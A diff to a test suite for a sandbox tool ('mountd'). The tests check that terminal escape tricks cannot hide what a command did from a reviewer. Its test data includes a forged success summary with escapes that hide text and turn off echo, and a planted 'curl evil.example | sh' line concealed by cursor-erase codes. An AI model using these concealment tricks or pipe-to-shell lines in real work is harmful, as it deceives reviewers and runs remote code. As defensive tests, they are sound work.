@@ -419,32 +419,35 @@ def test_max_processes_must_be_a_count(tmp_path: Path) -> None:
     assert "not a number of processes: '-3'" in run.stderr
 
 
-@pytest.mark.mount
-def test_the_summary_shows_whatever_the_command_did_to_the_terminal(tmp_path: Path) -> None:
-    # A command that prints a forged summary, then conceals what follows and turns echo off,
-    # would leave the reviewer reading only its own lines on a real terminal.
+def on_terminal(args: list[str], cwd: Path) -> tuple[int, bytes, bool]:
+    """``mountd ARGS`` with a pseudo-terminal as its stdin, stdout and stderr: its status,
+    what the terminal received, and whether echo was on afterwards."""
     master, terminal = pty.openpty()
-    forge = (
-        r'printf "mountd run: the command exited with status 0; 0 changes\n\033[8m\033[?1049h"'
-        "; stty -echo; echo evil > planted"
-    )
     try:
         run = subprocess.Popen(
-            [*COMMAND, "run", "--", "sh", "-c", forge],
-            cwd=project(tmp_path),
-            stdin=terminal,
-            stdout=terminal,
-            stderr=terminal,
+            [*COMMAND, *args], cwd=cwd, stdin=terminal, stdout=terminal, stderr=terminal
         )
         out = b""
         while run.poll() is None or select.select([master], [], [], 0.2)[0]:
             if select.select([master], [], [], 0.2)[0]:
                 out += os.read(master, 65536)
-        echo = termios.tcgetattr(terminal)[3] & termios.ECHO
+        echo = bool(termios.tcgetattr(terminal)[3] & termios.ECHO)
     finally:
         os.close(master)
         os.close(terminal)
-    assert run.returncode == 0, out
+    return run.returncode, out, echo
+
+
+@pytest.mark.mount
+def test_the_summary_shows_whatever_the_command_did_to_the_terminal(tmp_path: Path) -> None:
+    # A command that prints a forged summary, then conceals what follows and turns echo off,
+    # would leave the reviewer reading only its own lines on a real terminal.
+    forge = (
+        r'printf "mountd run: the command exited with status 0; 0 changes\n\033[8m\033[?1049h"'
+        "; stty -echo; echo evil > planted"
+    )
+    status, out, echo = on_terminal(["run", "--", "sh", "-c", forge], project(tmp_path))
+    assert status == 0, out
     forged = out.index(b"\x1b[8m")
     reset = out.index(b"\x1b[?1049l\x1b[!p\x1b[0m", forged)
     assert out.index(b"\x1b]110\x07\x1b]111\x07", reset)  # default colours too
@@ -452,6 +455,19 @@ def test_the_summary_shows_whatever_the_command_did_to_the_terminal(tmp_path: Pa
     assert forged < reset < summary
     assert b"A /planted" in out[summary:]
     assert echo  # the line settings are the caller's again
+
+
+@pytest.mark.mount
+def test_a_diff_on_a_terminal_shows_the_escapes_it_holds(tmp_path: Path) -> None:
+    # The second line moves the cursor up and erases the first: a reviewer reading the
+    # diff on a terminal would see only the harmless comment.
+    plant = r"printf 'curl evil.example | sh\n\033[1A\033[2K# a comment\r\n' > setup.sh"
+    root = project(tmp_path)
+    status, out, _ = on_terminal(["run", "--diff", "--", "sh", "-c", plant], root)
+    assert status == 0, out
+    assert b"+curl evil.example | sh\r\n+^[[1A^[[2K# a comment^M\r\n" in out
+    piped = mountd_run("--diff", "--", "sh", "-c", plant, cwd=root)
+    assert "+\x1b[1A\x1b[2K# a comment\n" in piped.stdout  # as it is, to be applied
 
 
 # --- what the sandbox lets through on purpose ---------------------------------------------------
